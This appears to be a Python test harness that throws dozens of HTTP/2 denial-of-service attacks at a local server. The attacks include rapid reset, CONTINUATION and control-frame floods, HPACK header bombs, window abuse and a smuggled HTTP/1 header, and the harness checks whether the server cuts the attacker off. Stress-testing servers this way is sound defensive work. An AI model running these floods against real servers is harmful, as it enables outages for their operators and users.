"""Attacks on HTTP/2, frame by frame, and who makes them.

As a program it attacks a port flat out, from a process of its own, so that what a neighbour waits for is the server and not
the attacker: `http2_attacks.py NAME SECONDS PORT...`, one port after the other. With `nothing` alone it is what is attacked to see what the attacker
itself takes of the machine: it reads and never answers.
"""

from __future__ import annotations

import contextlib
import itertools
import select
import selectors
import socket
import sys
import time

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from frames import head, integer, literal, opens, raw, string

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# What an attack may send before it must have been stopped: "about a thousand".
FRAMES = 1300


def streams():
    return itertools.count(1, 2)


# The attacks, each a sequence of frames that could go on for ever.


def rapid_reset():
    for stream in streams():
        yield opens(stream, end=True)
        yield RstStreamFrame(stream, error_code=8)


def slow_rapid_reset():
    """Each stream is reset once its handler has it: a moment later."""
    for stream in streams():
        yield opens(stream, "/slow", end=True)
        if stream % 10 == 9:
            yield None
        yield RstStreamFrame(stream, error_code=8)


def reset_by_zero_window_update():
    for stream in streams():
        yield opens(stream, end=False)
        yield WindowUpdateFrame(stream, window_increment=0)


def reset_by_window_overflow():
    for stream in streams():
        yield opens(stream, end=False)
        yield WindowUpdateFrame(stream, window_increment=2**31 - 1)


def reset_by_data_after_the_end():
    for stream in streams():
        yield opens(stream, end=True)
        yield DataFrame(stream, data=b"more")


def reset_by_second_head():
    for stream in streams():
        yield opens(stream, end=True)
        yield opens(stream, end=True)


def reset_by_head_that_does_not_end():
    for stream in streams():
        yield opens(stream, end=False)
        yield opens(stream, end=False)


def reset_by_own_dependency():
    for stream in streams():
        yield opens(stream, end=False)
        yield PriorityFrame(stream, depends_on=stream, stream_weight=1)


def reset_by_wrong_length():
    for stream in streams():
        yield opens(stream, "/", "POST", False, ("content-length", "1"))
        yield DataFrame(stream, data=b"more than one", flags=["END_STREAM"])


def reset_by_bad_head():
    for stream in streams():
        yield opens(stream, "/", "GET", True, ("Upper", "case"))


def reset_by_connection_header():
    for stream in streams():
        yield opens(stream, "/", "GET", True, ("connection", "close"))


def continuation_flood():
    yield HeadersFrame(1, data=head())
    for n in itertools.count():
        yield ContinuationFrame(1, data=literal(f"x-{n}", "y" * 100))


def empty_continuation_flood():
    yield HeadersFrame(1, data=head())
    while True:
        yield ContinuationFrame(1)


def continuation_of_one_endless_string():
    yield HeadersFrame(1, data=head() + b"\x00" + string("x") + integer(2**30, 7))
    while True:
        yield ContinuationFrame(1, data=b"y" * 16_384)


def settings_flood():
    while True:
        yield SettingsFrame(settings={4: 65_535})


def initial_window_flood():
    """Each changes the window of every stream."""
    for stream in itertools.islice(streams(), 100):
        yield opens(stream, end=False)
    for size in itertools.cycle((0, 2**31 - 1)):
        yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: size})


def table_size_flood():
    for size in itertools.cycle((0, 4096)):
        yield SettingsFrame(settings={SettingsFrame.HEADER_TABLE_SIZE: size})


def ping_flood():
    while True:
        yield PingFrame(opaque_data=b"12345678")


def ping_ack_flood():
    while True:
        yield PingFrame(opaque_data=b"12345678", flags=["ACK"])


def empty_data_flood():
    yield opens(1)
    while True:
        yield DataFrame(1)


def padded_empty_data_flood():
    yield opens(1)
    while True:
        yield DataFrame(1, pad_length=10, flags=["PADDED"])


def priority_flood():
    for stream in itertools.cycle(range(3, 200_000, 2)):
        yield PriorityFrame(stream, depends_on=1, stream_weight=200)


def window_update_flood():
    while True:
        yield WindowUpdateFrame(0, window_increment=1)


def stream_window_update_flood():
    yield opens(1)
    while True:
        yield WindowUpdateFrame(1, window_increment=1)


def data_dribble():
    """A response that is taken byte by byte, as fast as can be (CVE-2019-9511)."""
    yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    yield opens(1, "/large", end=True)
    while True:
        yield WindowUpdateFrame(1, window_increment=1)


def closed_stream_flood():
    """Frames for a stream that was answered long ago."""
    yield opens(1, end=True)
    yield None
    while True:
        yield WindowUpdateFrame(1, window_increment=1)
        yield RstStreamFrame(1, error_code=8)


def unknown_frame_flood():
    while True:
        yield raw(0xBE, 0, b"?" * 1000)


def window_overflow():
    while True:
        yield WindowUpdateFrame(0, window_increment=2**31 - 1)


def push_promise_flood():
    while True:
        yield raw(5, 1, b"\x00\x00\x00\x02" + head(), flags=4)


def opens_only():
    for stream in streams():
        yield opens(stream, end=False)


def idle_stream_resets():
    for stream in streams():
        yield RstStreamFrame(stream, error_code=8)


def header_bomb():
    """A value of 4 000 bytes in the table, named by one byte as often as a frame has room (CVE-2016-6581)."""
    table = b"\x40" + string("x") + string("y" * 4000)
    for stream in streams():
        block = head("/", "GET") + (table if stream == 1 else b"") + b"\xbe" * 16_000
        yield HeadersFrame(stream, data=block[:16_384], flags=["END_HEADERS", "END_STREAM"])


def header_bomb_below_the_end_of_patience():
    """The same such that it decodes to a little more than the limit: a refusal each, not the end."""
    table = b"\x40" + string("x") + string("y" * 4000)
    for stream in streams():
        block = head("/", "GET") + (table if stream == 1 else b"") + b"\xbe" * 20
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])


def cookie_crumbs():
    """Cookie crumbs are joined: each takes two bytes on the wire and more in memory (RFC 9113 section 8.2.3)."""
    for stream in streams():
        block = head("/", "GET") + literal("cookie", "") * 1500
        yield HeadersFrame(stream, data=block[:16_384], flags=["END_HEADERS", "END_STREAM"])


def indexed_cookie_crumbs():
    """`cookie` without a value has a number of its own: one byte on the wire, 38 by the rules, a hundred in memory."""
    for stream in streams():
        block = head("/", "GET") + b"\xa0" * 1500
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])


def header_bomb_below_the_limit():
    """60 kB of headers in a few bytes, for as many streams as may be open, which wait for their bodies."""
    table = b"\x40" + string("x") + string("y" * 4000)
    for stream in streams():
        block = head("/", "POST") + (table if stream == 1 else b"") + b"\xbe" * 15
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS"])


def trailers_flood():
    for stream in streams():
        yield opens(stream, end=False)
        yield DataFrame(stream, data=b"x")
        block = b"".join(literal(f"x-{n}", "y" * 900) for n in range(16))
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
        # Trailers that do not end the stream, and trailers after trailers.
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS"])


def goaway_flood():
    while True:
        yield GoAwayFrame(0, last_stream_id=0, error_code=0)


def reset_by_space_around_a_value():
    for stream in streams():
        yield opens(stream, "/", "GET", True, ("x-test", " a"))


def reset_by_path_with_a_space():
    for stream in streams():
        yield opens(stream, "/a b", "GET", True)


def reset_by_smuggled_line():
    """A header line of HTTP/1 within a value."""
    for stream in streams():
        yield opens(stream, "/", "GET", True, ("x-test", "a\r\ntransfer-encoding: chunked"))


def reset_by_two_lengths():
    for stream in streams():
        yield opens(stream, "/", "POST", False, ("content-length", "1"), ("content-length", "2"))


def endless_trailers():
    """A second head after the first is the trailers: these do not end, and grow by CONTINUATION."""
    yield opens(1)
    yield DataFrame(1, data=b"x")
    yield HeadersFrame(1, data=literal("x", "y"), flags=["END_STREAM"])
    while True:
        yield ContinuationFrame(1, data=literal("x", "y" * 1000))


def expectations():
    """Each may have 100 Continue, and is reset then."""
    for stream in streams():
        yield opens(stream, "/", "POST", False, ("expect", "100-continue"))
        yield RstStreamFrame(stream, error_code=8)


def table_that_is_emptied_and_filled():
    """A table's size changes twice in each block, and it is filled anew (RFC 7541 section 4.2)."""
    for stream in streams():
        block = integer(0, 5, 0x20) + integer(4096, 5, 0x20) + head("/", "GET")
        block += b"".join(b"\x40" + string(f"x-{n}") + string("y" * 400) for n in range(9))
        yield HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
        yield RstStreamFrame(stream, error_code=8)


ATTACKS = [
    rapid_reset,
    slow_rapid_reset,
    reset_by_zero_window_update,
    reset_by_window_overflow,
    reset_by_data_after_the_end,
    reset_by_second_head,
    reset_by_head_that_does_not_end,
    reset_by_own_dependency,
    reset_by_wrong_length,
    reset_by_bad_head,
    reset_by_connection_header,
    continuation_flood,
    empty_continuation_flood,
    continuation_of_one_endless_string,
    settings_flood,
    initial_window_flood,
    table_size_flood,
    ping_flood,
    ping_ack_flood,
    empty_data_flood,
    padded_empty_data_flood,
    priority_flood,
    window_update_flood,
    stream_window_update_flood,
    data_dribble,
    closed_stream_flood,
    unknown_frame_flood,
    window_overflow,
    push_promise_flood,
    opens_only,
    idle_stream_resets,
    header_bomb,
    header_bomb_below_the_end_of_patience,
    cookie_crumbs,
    indexed_cookie_crumbs,
    header_bomb_below_the_limit,
    trailers_flood,
    goaway_flood,
    reset_by_space_around_a_value,
    reset_by_path_with_a_space,
    reset_by_smuggled_line,
    reset_by_two_lengths,
    endless_trailers,
    expectations,
    table_that_is_emptied_and_filled,
]


# What a client may do: it is not sent away for it, within its time, but it must not hold up a neighbour either.


def tiny_data():
    for stream in streams():
        yield opens(stream)
        for _ in range(4000):
            yield DataFrame(stream, data=b"x")
        yield DataFrame(stream, data=b"x", flags=["END_STREAM"])


def padded_tiny_data():
    for stream in streams():
        yield opens(stream)
        for _ in range(500):
            yield DataFrame(stream, data=b"x", pad_length=255, flags=["PADDED"])
        yield DataFrame(stream, data=b"x", flags=["END_STREAM"])


def bodies_of_one_byte_that_do_not_end():
    """As many streams as there may be, half open."""
    for stream in itertools.islice(streams(), 128):
        yield opens(stream)
        yield DataFrame(stream, data=b"x")


def zero_window_readers():
    """As many large responses as may be asked for at once, none of which is taken."""
    yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    for stream in itertools.islice(streams(), 128):
        yield opens(stream, "/large", "GET", True)


def windows_without_a_reader():
    """The windows are as large as can be, and nothing is read from the socket."""
    yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
    yield WindowUpdateFrame(0, window_increment=2**31 - 65_536)
    for stream in itertools.islice(streams(), 128):
        yield opens(stream, "/large", "GET", True)


def half_a_head():
    yield opens(1, end=True)
    yield HeadersFrame(3, data=head()[:10])


BURDENS = [
    tiny_data,
    padded_tiny_data,
    bodies_of_one_byte_that_do_not_end,
    zero_window_readers,
    windows_without_a_reader,
    half_a_head,
]


class Attacker:
    """One connection that sends frames and looks at what comes back. It acknowledges nothing."""

    def __init__(self, apart, settings=None, **wire):
        self.wire = apart.wire(**wire)
        self.received, self.goaway, self.closed, self.sent = b"", None, False, 0
        self.seen = []
        self.wire.send(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def look(self, timeout=0.0):
        """Takes what has come."""
        while not self.closed and select.select([self.wire.sock], [], [], timeout)[0]:
            try:
                data = self.wire.sock.recv(65_536)
            except ConnectionError:
                data = b""
            self.closed = not data
            self.received += data
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                break
            frame.parse_body(memoryview(self.received[9 : 9 + length]))
            self.received = self.received[9 + length :]
            self.seen.append(frame)
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
        return self.closed or self.goaway is not None

    def run(self, frames, most=FRAMES, batch=10):
        """Sends so many frames in small lots until it is stopped. True where it was."""
        frames = itertools.islice(frames, most)
        with contextlib.suppress(OSError), self.wire:
            while lot := list(itertools.islice(frames, batch)):
                self.wire.send(b"".join(frame.serialize() for frame in lot if frame))
                self.sent += len(lot)
                if None in lot:
                    time.sleep(0.005)
                if self.look():
                    return True
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline:
                if self.look(0.05):
                    return True
            return False
        return True  # sending failed: it is closed


class FlatOut:
    """The same without looking: what one connection may send, as fast as it goes, then the next connection."""

    # How many bytes one connection sends at most.
    MOST = 4_000_000
    # How many wait at once, of those that the server bears for a while.
    WAITING = 4

    def __init__(self, attack):
        self.lots = [b""]
        self.bears, self.waiting = attack in BURDENS, []
        size = 0
        for frame in itertools.islice(attack(), 5_000 if self.bears else FRAMES):
            if frame is None:
                self.lots.append(b"")
            elif size < self.MOST:
                data = frame.serialize()
                self.lots[-1] += data
                size += len(data)

    def run(self, port, seconds):
        """With how many connections."""
        end = time.monotonic() + seconds
        for number in itertools.count():
            if time.monotonic() > end:
                while self.waiting:
                    self.waiting.pop().close()
                return number
            with contextlib.suppress(OSError):
                self.attack(socket.create_connection(("127.0.0.1", port), 5))

    def attack(self, sock):
        self.waiting.append(sock)
        sock.settimeout(0.5)
        sock.sendall(PREFACE + SettingsFrame(settings={}).serialize())
        for lot in self.lots:
            sock.sendall(lot)
            if len(self.lots) > 1:
                time.sleep(0.005)
        if not self.bears:
            sock.shutdown(socket.SHUT_WR)
            while sock.recv(65_536):
                pass
        elif len(self.waiting) < self.WAITING:
            return
        else:
            time.sleep(0.1)
        self.waiting.pop(0).close()


def nothing():
    """Reads what comes and closes where it ends."""
    listener = socket.create_server(("127.0.0.1", 0))
    print("port", listener.getsockname()[1], flush=True)
    selector = selectors.DefaultSelector()
    selector.register(listener, selectors.EVENT_READ)
    while True:
        for key, _ in selector.select():
            if key.fileobj is listener:
                selector.register(listener.accept()[0], selectors.EVENT_READ)
                continue
            with contextlib.suppress(OSError):
                if key.fileobj.recv(65_536):
                    continue
            selector.unregister(key.fileobj)
            key.fileobj.close()


if __name__ == "__main__":
    if sys.argv[1] == "nothing":
        nothing()
    name, seconds, *ports = sys.argv[1:]
    attacker = FlatOut({attack.__name__: attack for attack in ATTACKS + BURDENS}[name])
    for port in ports:
        print("begins", flush=True)
        print("ended", attacker.run(int(port), float(seconds)), flush=True)
        time.sleep(0.05)
